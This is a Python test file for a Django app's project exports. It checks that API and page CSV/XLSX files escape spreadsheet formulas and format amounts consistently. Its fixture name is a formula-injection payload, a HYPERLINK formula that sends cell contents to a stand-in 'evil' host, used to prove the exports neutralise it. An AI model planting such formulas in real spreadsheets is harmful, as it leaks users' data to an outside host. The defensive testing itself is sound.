"""The API's list exports and the pages' exports are one writer (core.exports, issue 19): the same
formula-injection rule and file shape in both; each value as its own side shows it (the API's file
as its JSON, the page's for people)."""

import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from projects.models import Project
from tests.factories import make_project

FORMULA_NAME = '=HYPERLINK("http://evil/?"&A1)'


def _csv(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel shows the Chinese
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_api_and_page_csv_make_a_formula_name_safe_alike_and_each_writes_its_own_values(
    users, api_as, client
):
    project = make_project(amount="1000")
    Project.objects.filter(pk=project.pk).update(
        name=FORMULA_NAME, planned_investment=Decimal("3500.250000")
    )
    (api_row,) = _csv(api_as(users["city_staff"]).get("/api/v1/projects/?format=csv"))
    client.force_login(users["city_staff"])
    (page_row,) = _csv(client.get("/imports/export/projects/", {"format": "csv"}))

    assert api_row["name"] == page_row["项目名称"] == "'" + FORMULA_NAME
    assert api_row["region_name"] == page_row["县区"] == "榆次区"
    # The API's file as its JSON (README "API": amounts as decimal strings, dates ISO 8601,
    # booleans true / false); the page's for people.
    json_row = api_as(users["city_staff"]).get("/api/v1/projects/").json()["results"][0]
    assert api_row["planned_investment"] == json_row["planned_investment"] == "3500.250000"
    assert page_row["计划总投资(万元)"] == "3500.25"
    assert api_row["updated_at"] == json_row["updated_at"]
    assert api_row["is_foreign"] == "false"


def test_api_xlsx_keeps_amounts_as_exact_text_and_names_safe(users, api_as):
    project = make_project(amount="1000")
    Project.objects.filter(pk=project.pk).update(
        name=FORMULA_NAME, planned_investment=Decimal("123456789.123456")
    )
    response = api_as(users["city_staff"]).get("/api/v1/projects/?format=xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="projects.xlsx"'
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.title == "projects"
    header, row = (list(r) for r in sheet.iter_rows(values_only=True))
    # Text, as the API sends amounts (a number cell holds 15 significant digits). 15 digits here:
    # the embedded SQLite stores Decimal(18, 6) as a REAL, so it keeps no more.
    assert row[header.index("planned_investment")] == "123456789.123456"
    assert row[header.index("name")] == "'" + FORMULA_NAME
